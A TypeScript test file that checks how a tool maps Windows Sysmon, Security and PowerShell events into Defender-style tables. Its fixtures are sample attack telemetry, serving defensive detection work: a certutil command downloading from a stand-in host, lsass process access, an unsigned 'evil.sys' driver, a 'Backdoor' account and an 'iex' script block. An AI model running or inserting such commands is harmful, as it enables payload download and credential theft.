import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { loadCatalog } from '../../catalog/load.ts';
import { createRouting, type Router } from '../route.ts';
import type { Outcome } from '../row.ts';
import { WINDOWS_MAPPINGS } from './index.ts';

const routing = createRouting(loadCatalog());

type Data = Readonly<Record<string, string>>;
type Columns = Readonly<Record<string, unknown>>;

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const GUID = '{9f85ce58-6e65-5f2d-bd07-000000000400}';
const PARENT_GUID = '{9f85ce58-5c31-5f2d-2500-000000000400}';
const IMAGE = 'C:\\Windows\\System32\\certutil.exe';
const SELF = { ProcessGuid: GUID, ProcessId: '6496', Image: IMAGE, User: 'LAB\\Ann' };
const HASHES =
  'SHA1=9245F36AA783167E0AFE948B1C0E8E7F3B81E3D4,MD5=8AC325C757FA721B272ECEA19EBCF745,SHA256=0BEC3128B241FA533DC5A9D3F62AA41323D205DEFC30DCDE228C5ECC2D1E50A9,IMPHASH=9CB27CAED52CB0AFFB32788922A0D083';
const SHA1 = '9245f36aa783167e0afe948b1c0e8e7f3b81e3d4';

/** The event in the flat form of shippers. */
function flat(channel: string, id: number, data: Data): object {
  return {
    '@timestamp': '2020-08-07T15:08:25.000Z',
    Channel: channel,
    EventID: id,
    Hostname: 'PC1.lab.example',
    RecordNumber: 4711,
    UserID: 'S-1-5-21-1-2-3-1001',
    ExecutionProcessID: 5852,
    Keywords: -9214364837600034816n.toString(),
    ...(channel === SYSMON ? { UtcTime: '2020-08-07 15:08:21.848' } : {}),
    ...data,
  };
}

/** The same event as the JSON of its XML, in two of the spellings that converters use. */
function nested(channel: string, id: number, data: Data, list: boolean): object {
  const all = { ...(channel === SYSMON ? { UtcTime: '2020-08-07 15:08:21.848' } : {}), ...data };
  const attributes = list ? '#attributes' : '@attributes';
  return {
    Event: {
      System: {
        Provider: {
          [attributes]: { Name: channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : 'x' },
        },
        EventID: list ? { '#text': id, '#attributes': { Qualifiers: 0 } } : id,
        TimeCreated: { [attributes]: { SystemTime: '2020-08-07T15:08:25.0000000Z' } },
        EventRecordID: 4711,
        Execution: { [attributes]: { ProcessID: 5852, ThreadID: 1 } },
        Channel: channel,
        Computer: 'PC1.lab.example',
        Security: { [attributes]: { UserID: 'S-1-5-21-1-2-3-1001' } },
      },
      EventData: list
        ? {
            Data: Object.entries(all).map(([Name, value]) => ({ '#attributes': { Name }, '#text': value })),
          }
        : all,
    },
  };
}

function send(router: Router, event: object): Outcome[] {
  const outcomes: Outcome[] = [];
  const text = JSON.stringify(event);
  router.value(JSON.parse(text), text, (outcome) => outcomes.push(outcome));
  return outcomes;
}

/** The filled columns of the row that the last event becomes. */
function row(events: readonly object[]): { readonly table: string; readonly columns: Columns } {
  const router = routing({ format: 'auto', table: undefined, shiftMs: 0 });
  let last: Outcome | undefined;
  for (const event of events) last = send(router, event)[0];
  if (last?.kind !== 'row') throw new Error(`no row: ${JSON.stringify(last)}`);
  const { layout, cells } = last.row;
  const values = JSON.parse(`[${cells}]`) as unknown[];
  expect(values).toHaveLength(layout.columns.length);
  const filled = layout.columns.map((name, i) => [name, values[i]] as const);
  return {
    table: layout.table.name,
    columns: Object.fromEntries(filled.filter(([, value]) => value !== '' && value !== null)),
  };
}

interface Case {
  readonly channel: string;
  readonly id: number;
  readonly data: Data;
  readonly table: string;
  readonly columns: Columns;
  /** Members of `AdditionalFields`, or of `_extra` in a table without it. */
  readonly more?: Columns;
}

const INITIATING = {
  InitiatingProcessId: 6496,
  InitiatingProcessFileName: 'certutil.exe',
  InitiatingProcessFolderPath: 'c:\\windows\\system32\\certutil.exe',
  InitiatingProcessAccountDomain: 'lab',
  InitiatingProcessAccountName: 'ann',
  InitiatingProcessCreationTime: '2020-08-07 15:08:21.0000000',
};
const SUBJECT = {
  SubjectUserSid: 'S-1-5-21-1-2-3-1001',
  SubjectUserName: 'Ann',
  SubjectDomainName: 'LAB',
  SubjectLogonId: '0x3e7',
};
const LOGON = {
  ...SUBJECT,
  TargetUserSid: 'S-1-5-21-1-2-3-1002',
  TargetUserName: 'Bob',
  TargetDomainName: 'LAB',
  TargetLogonId: '0xc10d0f',
  LogonProcessName: 'Advapi  ',
  AuthenticationPackageName: 'NTLM',
  WorkstationName: 'PC9',
  ProcessId: '0xe58',
  ProcessName: 'C:\\Windows\\System32\\svchost.exe',
  IpAddress: '::ffff:10.0.0.9',
  IpPort: '52011',
};

const CASES: readonly Case[] = [
  {
    channel: SYSMON,
    id: 1,
    data: {
      ...SELF,
      RuleName: '-',
      FileVersion: '10.0.1 (WinBuild.1)',
      Description: 'CertUtil',
      Product: 'Windows',
      Company: 'Microsoft',
      OriginalFileName: 'CertUtil.exe',
      CommandLine: 'certutil -urlcache -f http://a.example/x',
      CurrentDirectory: 'C:\\Temp\\',
      LogonId: '0x2BC327',
      TerminalSessionId: '2',
      IntegrityLevel: 'Medium',
      Hashes: HASHES,
      ParentProcessGuid: PARENT_GUID,
      ParentProcessId: '1516',
      ParentImage: 'C:\\Windows\\explorer.exe',
      ParentCommandLine: 'explorer',
    },
    table: 'DeviceProcessEvents',
    columns: {
      ActionType: 'ProcessCreated',
      FileName: 'certutil.exe',
      FolderPath: IMAGE,
      SHA1,
      MD5: '8ac325c757fa721b272ecea19ebcf745',
      ProcessVersionInfoCompanyName: 'Microsoft',
      ProcessVersionInfoProductVersion: '10.0.1',
      ProcessVersionInfoOriginalFileName: 'CertUtil.exe',
      ProcessId: 6496,
      ProcessCommandLine: 'certutil -urlcache -f http://a.example/x',
      ProcessIntegrityLevel: 'Medium',
      ProcessCreationTime: '2020-08-07 15:08:21.8480000',
      AccountDomain: 'lab',
      AccountName: 'ann',
      LogonId: 0x2bc327,
      InitiatingProcessId: 1516,
      InitiatingProcessFileName: 'explorer.exe',
      InitiatingProcessCommandLine: 'explorer',
      InitiatingProcessFolderPath: 'c:\\windows\\explorer.exe',
      InitiatingProcessCreationTime: '2020-08-07 13:50:41.0000000',
    },
    more: { CurrentDirectory: 'C:\\Temp\\', IMPHASH: '9cb27caed52cb0affb32788922a0d083' },
  },
  {
    channel: SYSMON,
    id: 3,
    data: {
      ...SELF,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: 'fe80:0:0:0:3816:b2ee:1b9b:324b',
      SourcePort: '54477',
      DestinationIp: '203.0.113.9',
      DestinationHostname: 'a.example',
      DestinationPort: '443',
    },
    table: 'DeviceNetworkEvents',
    columns: {
      ...INITIATING,
      ActionType: 'ConnectionSuccess',
      RemoteIP: '203.0.113.9',
      RemotePort: 443,
      RemoteUrl: 'a.example',
      RemoteIPType: 'Public',
      LocalIP: 'fe80::3816:b2ee:1b9b:324b',
      LocalPort: 54477,
      LocalIPType: 'Private',
      Protocol: 'Tcp',
    },
  },
  {
    channel: SYSMON,
    id: 5,
    data: SELF,
    table: 'DeviceEvents',
    columns: { ...INITIATING, ActionType: 'ProcessTerminated', FileName: 'certutil.exe', ProcessId: 6496 },
  },
  {
    channel: SYSMON,
    id: 6,
    data: { ImageLoaded: 'C:\\Windows\\System32\\drivers\\evil.sys', Hashes: HASHES, Signed: 'false' },
    table: 'DeviceEvents',
    columns: { ActionType: 'DriverLoad', FileName: 'evil.sys', SHA1, InitiatingProcessId: 4 },
    more: { Signed: 'false' },
  },
  {
    channel: SYSMON,
    id: 7,
    data: { ...SELF, ImageLoaded: 'C:\\Temp\\a.dll', Hashes: HASHES, Signed: 'true', Signature: 'X' },
    table: 'DeviceImageLoadEvents',
    columns: {
      ...INITIATING,
      ActionType: 'ImageLoaded',
      FileName: 'a.dll',
      FolderPath: 'C:\\Temp\\a.dll',
      SHA1,
    },
    more: { Signed: 'true', Signature: 'X' },
  },
  {
    channel: SYSMON,
    id: 8,
    data: {
      SourceProcessGuid: GUID,
      SourceProcessId: '6496',
      SourceImage: IMAGE,
      SourceUser: 'LAB\\Ann',
      TargetProcessGuid: PARENT_GUID,
      TargetProcessId: '1516',
      TargetImage: 'C:\\Windows\\explorer.exe',
      TargetUser: 'LAB\\Bob',
      NewThreadId: '77',
      StartAddress: '0x0',
    },
    table: 'DeviceEvents',
    columns: {
      ...INITIATING,
      ActionType: 'CreateRemoteThreadApiCall',
      FileName: 'explorer.exe',
      ProcessId: 1516,
      ProcessCreationTime: '2020-08-07 13:50:41.0000000',
      AccountName: 'bob',
    },
    more: { NewThreadId: 77 },
  },
  {
    channel: SYSMON,
    id: 10,
    data: {
      SourceProcessGUID: GUID,
      SourceProcessId: '6496',
      SourceImage: IMAGE,
      SourceUser: 'LAB\\Ann',
      TargetProcessGUID: PARENT_GUID,
      TargetProcessId: '700',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1010',
      CallTrace: 'ntdll.dll+1',
    },
    table: 'DeviceEvents',
    columns: { ...INITIATING, ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe', ProcessId: 700 },
    more: { DesiredAccess: 4112, GrantedAccess: '0x1010', CallTrace: 'ntdll.dll+1' },
  },
  {
    channel: SYSMON,
    id: 11,
    data: { ...SELF, TargetFilename: 'C:\\Temp\\x.exe', CreationUtcTime: '2020-08-07 15:08:21.000' },
    table: 'DeviceFileEvents',
    columns: { ...INITIATING, ActionType: 'FileCreated', FileName: 'x.exe', FolderPath: 'C:\\Temp\\x.exe' },
  },
  ...(
    [
      ['CreateKey', 'RegistryKeyCreated'],
      ['DeleteKey', 'RegistryKeyDeleted'],
    ] as const
  ).map(
    ([EventType, ActionType]): Case => ({
      channel: SYSMON,
      id: 12,
      data: { ...SELF, EventType, TargetObject: 'HKLM\\SOFTWARE\\Run' },
      table: 'DeviceRegistryEvents',
      columns: { ...INITIATING, ActionType, RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Run' },
    }),
  ),
  {
    channel: SYSMON,
    id: 12,
    data: { ...SELF, EventType: 'DeleteValue', TargetObject: 'HKU\\S-1-5-18\\Run\\a' },
    table: 'DeviceRegistryEvents',
    columns: {
      ActionType: 'RegistryValueDeleted',
      RegistryKey: 'HKEY_USERS\\S-1-5-18\\Run',
      RegistryValueName: 'a',
    },
  },
  {
    channel: SYSMON,
    id: 13,
    data: {
      ...SELF,
      EventType: 'SetValue',
      TargetObject: 'HKLM\\SOFTWARE\\Run\\a',
      Details: 'DWORD (0x00000010)',
    },
    table: 'DeviceRegistryEvents',
    columns: {
      ...INITIATING,
      ActionType: 'RegistryValueSet',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Run',
      RegistryValueName: 'a',
      RegistryValueType: 'Dword',
      RegistryValueData: '16',
    },
  },
  {
    channel: SYSMON,
    id: 14,
    data: { ...SELF, EventType: 'RenameKey', TargetObject: 'HKLM\\a', NewName: 'HKLM\\b' },
    table: 'DeviceRegistryEvents',
    columns: {
      ActionType: 'RegistryKeyRenamed',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\b',
      PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\a',
    },
  },
  {
    channel: SYSMON,
    id: 15,
    data: {
      ...SELF,
      TargetFilename: 'C:\\Temp\\x.exe:Zone.Identifier',
      Hash: HASHES,
      Contents: '[ZoneTransfer] ZoneId=3 ReferrerUrl=https://r.example/ HostUrl=https://h.example/x.exe',
    },
    table: 'DeviceFileEvents',
    columns: {
      ActionType: 'FileCreated',
      SHA1,
      FileOriginUrl: 'https://h.example/x.exe',
      FileOriginReferrerUrl: 'https://r.example/',
    },
  },
  ...([17, 18] as const).map(
    (id): Case => ({
      channel: SYSMON,
      id,
      data: { ...SELF, EventType: id === 17 ? 'CreatePipe' : 'ConnectPipe', PipeName: '\\lsass' },
      table: 'DeviceEvents',
      columns: { ...INITIATING, ActionType: 'NamedPipeEvent' },
      more: {
        PipeName: '\\Device\\NamedPipe\\lsass',
        FileOperation: id === 17 ? 'File created' : 'File opened',
      },
    }),
  ),
  {
    channel: SYSMON,
    id: 22,
    data: { ...SELF, QueryName: 'a.example', QueryStatus: '0', QueryResults: '203.0.113.9;' },
    table: 'DeviceEvents',
    columns: { ...INITIATING, ActionType: 'DnsQueryResponse' },
    more: { DnsQueryString: 'a.example', DnsQueryResult: '203.0.113.9;', DnsQueryStatus: 0 },
  },
  ...([23, 26] as const).map(
    (id): Case => ({
      channel: SYSMON,
      id,
      data: { ...SELF, TargetFilename: 'C:\\Temp\\x.exe', Hashes: HASHES, IsExecutable: 'true' },
      table: 'DeviceFileEvents',
      columns: { ...INITIATING, ActionType: 'FileDeleted', FileName: 'x.exe', SHA1 },
      more: { IsExecutable: 'true' },
    }),
  ),
  {
    channel: 'Security',
    id: 4624,
    data: { ...LOGON, LogonType: '3', ElevatedToken: '%%1842' },
    table: 'DeviceLogonEvents',
    columns: {
      ActionType: 'LogonSuccess',
      LogonType: 'Network',
      AccountDomain: 'lab',
      AccountName: 'bob',
      AccountSid: 'S-1-5-21-1-2-3-1002',
      Protocol: 'NTLM',
      LogonId: 0xc10d0f,
      RemoteDeviceName: 'PC9',
      RemoteIP: '10.0.0.9',
      RemoteIPType: 'Private',
      RemotePort: 52011,
      IsLocalAdmin: true,
      InitiatingProcessId: 0xe58,
      InitiatingProcessFileName: 'svchost.exe',
      InitiatingProcessAccountName: 'ann',
      InitiatingProcessAccountSid: 'S-1-5-21-1-2-3-1001',
      Timestamp: '2020-08-07 15:08:25.0000000',
    },
    more: { LogonProcessName: 'Advapi' },
  },
  {
    channel: 'Security',
    id: 4625,
    data: {
      ...LOGON,
      TargetUserSid: 'S-1-0-0',
      LogonType: '10',
      Status: '0xc000006d',
      SubStatus: '0xc000006a',
    },
    table: 'DeviceLogonEvents',
    columns: {
      ActionType: 'LogonFailed',
      LogonType: 'RemoteInteractive',
      AccountName: 'bob',
      FailureReason: 'InvalidUserNameOrPassword',
    },
    more: { SubStatus: '0xc000006a' },
  },
  {
    channel: 'Security',
    id: 4688,
    data: {
      ...SUBJECT,
      NewProcessId: '0x1d18',
      NewProcessName: IMAGE,
      TokenElevationType: '%%1938',
      ProcessId: '0x5ec',
      CommandLine: 'certutil -x',
      TargetUserSid: 'S-1-0-0',
      TargetUserName: '-',
      TargetDomainName: '-',
      TargetLogonId: '0x0',
      ParentProcessName: 'C:\\Windows\\explorer.exe',
      MandatoryLabel: 'S-1-16-8192',
    },
    table: 'DeviceProcessEvents',
    columns: {
      ActionType: 'ProcessCreated',
      FileName: 'certutil.exe',
      ProcessId: 0x1d18,
      ProcessCommandLine: 'certutil -x',
      ProcessTokenElevation: 'TokenElevationTypeLimited',
      ProcessIntegrityLevel: 'Medium',
      AccountName: 'ann',
      AccountSid: 'S-1-5-21-1-2-3-1001',
      LogonId: 999,
      InitiatingProcessId: 0x5ec,
      InitiatingProcessFileName: 'explorer.exe',
    },
  },
  {
    channel: 'Security',
    id: 4689,
    data: { ...SUBJECT, ProcessId: '0x1d18', ProcessName: IMAGE, Status: '0x1' },
    table: 'DeviceEvents',
    columns: { ActionType: 'ProcessTerminated', FileName: 'certutil.exe', ProcessId: 0x1d18 },
    more: { ExitStatus: '0x1' },
  },
  {
    channel: 'Security',
    id: 4697,
    data: {
      ...SUBJECT,
      ServiceName: 'Updater',
      ServiceFileName: '"C:\\Temp\\svc.exe" -k',
      ServiceType: '0x10',
      ServiceStartType: '2',
      ServiceAccount: 'LocalSystem',
    },
    table: 'DeviceEvents',
    columns: {
      ActionType: 'ServiceInstalled',
      FileName: 'svc.exe',
      FolderPath: 'C:\\Temp\\svc.exe',
      InitiatingProcessAccountName: 'ann',
    },
    more: { ServiceName: 'Updater', ServiceType: 16, ServiceStartType: 'Automatic' },
  },
  {
    channel: 'Security',
    id: 4698,
    data: { ...SUBJECT, TaskName: '\\Evil', TaskContent: '&lt;Task a="&amp;lt;"/&gt;' },
    table: 'DeviceEvents',
    columns: { ActionType: 'ScheduledTaskCreated', InitiatingProcessAccountName: 'ann' },
    more: { TaskName: '\\Evil', TaskContent: '<Task a="&lt;"/>' },
  },
  {
    channel: 'Security',
    id: 4720,
    data: {
      ...SUBJECT,
      TargetUserName: 'Backdoor',
      TargetDomainName: 'PC1',
      TargetSid: 'S-1-5-21-9',
      SamAccountName: 'b',
    },
    table: 'DeviceEvents',
    columns: {
      ActionType: 'UserAccountCreated',
      AccountName: 'backdoor',
      AccountDomain: 'pc1',
      AccountSid: 'S-1-5-21-9',
      InitiatingProcessAccountName: 'ann',
    },
    more: { SamAccountName: 'b' },
  },
  {
    channel: 'Security',
    id: 5156,
    data: {
      ProcessID: '4',
      Application: 'System',
      Direction: '%%14592',
      SourceAddress: '10.0.0.9',
      SourcePort: '51128',
      DestAddress: '10.0.0.1',
      DestPort: '445',
      Protocol: '6',
    },
    table: 'DeviceNetworkEvents',
    columns: {
      ActionType: 'InboundConnectionAccepted',
      RemoteIP: '10.0.0.9',
      RemotePort: 51128,
      LocalIP: '10.0.0.1',
      LocalPort: 445,
      Protocol: 'Tcp',
      InitiatingProcessId: 4,
    },
  },
  {
    channel: 'Microsoft-Windows-PowerShell/Operational',
    id: 4104,
    data: { ScriptBlockText: "iex 'x'", ScriptBlockId: 'b1', MessageNumber: '1', MessageTotal: '2' },
    table: 'DeviceEvents',
    columns: {
      ActionType: 'PowerShellCommand',
      InitiatingProcessId: 5852,
      InitiatingProcessAccountSid: 'S-1-5-21-1-2-3-1001',
    },
    more: { Command: "iex 'x'", ScriptBlockId: 'b1', MessageNumber: 1, MessageTotal: 2 },
  },
];

describe('Windows events', () => {
  for (const { channel, id, data, table, columns, more } of CASES) {
    it(`${channel} ${id} becomes ${String(columns['ActionType'])}`, () => {
      const forms = [
        flat(channel, id, data),
        nested(channel, id, data, false),
        nested(channel, id, data, true),
      ];
      for (const event of forms) {
        const made = row([event]);
        expect(made.table).toBe(table);
        expect(made.columns).toMatchObject({
          ...columns,
          DeviceName: 'pc1.lab.example',
          DeviceId: createHash('sha1').update('pc1.lab.example').digest('hex'),
          ReportId: 4711,
        });
        const rest = (made.columns['AdditionalFields'] ?? made.columns['_extra'] ?? '{}') as string;
        expect(JSON.parse(rest)).toMatchObject(more ?? {});
      }
    });
  }

  it('covers every mapping', () => {
    const sources = { [SYSMON]: 'Sysmon', Security: 'Security' } as Record<string, string>;
    const tried = new Set(CASES.map(({ channel, id }) => `${sources[channel] ?? 'PowerShell'} ${id}`));
    expect(
      WINDOWS_MAPPINGS.map(({ source, id }) => `${source} ${id}`).filter((name) => !tried.has(name)),
    ).toEqual([]);
  });

  it('keeps the process of a start in mind for the rest of the file', () => {
    const start = CASES[0] as Case;
    const made = row([
      flat(SYSMON, 1, start.data),
      flat('Security', 4624, { TargetDomainName: 'LAB', TargetUserName: 'Ann', TargetUserSid: 'S-1-5-21-7' }),
      flat(SYSMON, 22, { ...SELF, QueryName: 'a.example' }),
    ]);
    expect(made.columns).toMatchObject({
      InitiatingProcessCommandLine: 'certutil -urlcache -f http://a.example/x',
      InitiatingProcessSHA1: SHA1,
      InitiatingProcessCreationTime: '2020-08-07 15:08:21.8480000',
      InitiatingProcessParentFileName: 'explorer.exe',
      InitiatingProcessParentId: 1516,
      InitiatingProcessAccountSid: 'S-1-5-21-7',
    });
  });

  it('keeps events of other kinds whole, without what only says how they travelled', () => {
    const made = row([
      flat('System', 7036, { param1: 'Spooler', param2: 'stopped', tags: 'x', Message: 'm' }),
    ]);
    expect(made.table).toBe('DeviceEvents');
    expect(made.columns['ActionType']).toBe('WindowsEvent');
    expect(JSON.parse(String(made.columns['AdditionalFields']))).toMatchObject({
      Channel: 'System',
      EventID: 7036,
      param1: 'Spooler',
      param2: 'stopped',
    });
    expect(String(made.columns['AdditionalFields'])).not.toMatch(/tags|Message/);
    const security = row([
      flat('Security', 4703, {
        ProcessId: '0x1f4',
        ProcessName: 'C:\\W\\svchost.exe',
        SubjectUserName: 'Ann',
      }),
    ]);
    expect(security.columns).toMatchObject({
      ActionType: 'WindowsEvent',
      InitiatingProcessId: 500,
      InitiatingProcessFileName: 'svchost.exe',
      InitiatingProcessAccountName: 'ann',
    });
  });

  it('rejects events without a host or a time', () => {
    const router = routing({ format: 'auto', table: undefined, shiftMs: 0 });
    expect(send(router, { ...flat('Security', 4624, {}), Hostname: '' })[0]?.kind).toBe('rejected');
    expect(send(router, { ...flat('Security', 4624, {}), '@timestamp': 'never' })[0]?.kind).toBe('rejected');
  });

  it('gives a device the same id in every spelling of its name', () => {
    const made = row([flat(SYSMON, 5, SELF)]);
    const upper = row([{ ...flat(SYSMON, 5, SELF), Hostname: 'PC1.LAB.EXAMPLE' }]);
    expect(upper.columns['DeviceId']).toBe(made.columns['DeviceId']);
  });
});
